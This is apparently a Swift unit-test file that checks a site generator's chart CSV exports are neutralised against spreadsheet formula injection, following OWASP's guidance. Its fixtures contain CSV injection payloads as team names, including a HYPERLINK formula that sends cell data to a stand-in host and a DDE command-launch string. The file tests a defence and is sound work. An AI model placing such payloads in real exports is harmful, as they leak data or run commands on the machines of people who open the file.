import Charts
import ContentLoading
import Foundation
import ReportModel
@testable import Site
import Testing

/// The CSV written beside each chart is opened in spreadsheets, which run a cell that
/// starts with `=`, `+`, `-`, `@`, tab or carriage return as a formula. OWASP's rule
/// (https://owasp.org/www-community/attacks/CSV_Injection): such a cell gets a single
/// quote in front, inside its quoted field, unless it is a number.
@Suite("Chart CSV files are inert in a spreadsheet")
struct ChartCSVFileTests {
    static let names = [
        #"=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")"#,
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd",
        "-2+3",
    ]

    static var fixture: String {
        """
        -- site.yaml --
        title: T
        organization: O
        -- teams.yaml --
        teams:
          - {id: a, name: "\(names[0])", headcount: 8}
          - {id: b, name: "\(names[1])", headcount: 8}
          - {id: c, name: "\(names[2])", headcount: 8}
          - {id: d, name: "\(names[3])", headcount: 8}
          - {id: e, name: "Plain", headcount: 8}
        -- metrics.yaml --
        metrics:
          - {id: m, name: "=1+1", category: outcome, unit: points, better: higher, aggregate: mean}
        -- data/v.csv --
        period,team,metric,value
        2026-Q1,a,m,-3.5
        2026-Q1,b,m,2
        2026-Q1,c,m,-1
        2026-Q1,d,m,4
        2026-Q1,e,m,5
        2026-Q2,a,m,-3
        2026-Q2,b,m,2.5
        2026-Q2,c,m,1
        2026-Q2,d,m,4
        2026-Q2,e,m,6
        """
    }

    /// A cell a spreadsheet reads as a number: an optional sign, digits, a decimal part.
    static func isNumber(_ cell: String) -> Bool {
        cell.wholeMatch(of: /[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?%?/) != nil
    }

    @Test("a chart's table is written with CRLF line endings and RFC 4180 quoting")
    func quoting() {
        #expect(DataTable(columns: ["a"], rows: [["x,\"y\""]]).csv == "a\r\n\"x,\"\"y\"\"\"\r\n")
        #expect(DataTable(columns: ["Team", "Value"], rows: [["=1+1", "-3.5"]]).csv == "Team,Value\r\n\"'=1+1\",-3.5\r\n")
    }

    @Test("no cell of any chart CSV starts a formula, and each name keeps its text behind a quote")
    func neutralised() throws {
        let (folder, summary, diagnostics) = try SiteFixture.build(Self.fixture)
        #expect(summary != nil, "\(diagnostics)")
        let paths = SiteFixture.chartFiles(in: folder, ".csv")
        #expect(paths.count > 5)
        var cells: [String] = []
        var formulas: [String] = []
        for path in paths {
            let text = SiteFixture.read(folder, path)
            var problems = DiagnosticLog()
            let table = CSVTable.parse(text, file: path, diagnostics: &problems)
            #expect(problems.isEmpty, "\(path): \(problems.all)")
            for row in table.rows {
                for field in row.fields {
                    cells.append(field.text)
                    if let first = field.text.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first),
                       !Self.isNumber(field.text) {
                        formulas.append("\(path):\(field.line):\(field.column): \(field.text)")
                    }
                }
            }
        }
        #expect(formulas.isEmpty, "\(formulas.prefix(5))")
        // A name's whole text stays, behind the quote that makes it text.
        let written = Set(cells)
        func has(_ cell: String) -> Bool { written.contains(cell) }
        #expect(has(#"'=HYPERLINK("https://evil.test/?"&A1,"Open")"#))
        #expect(has("'@SUM(1+1)*cmd|' /C calc'!A0"))
        #expect(has("'+1+cmd"))
        #expect(has("'-2+3"))
        #expect(has("'=1+1"), "the metric's name, in a header, too")
        #expect(has("Plain") && has("−3.5 points"), "other cells are as they were")
    }
}
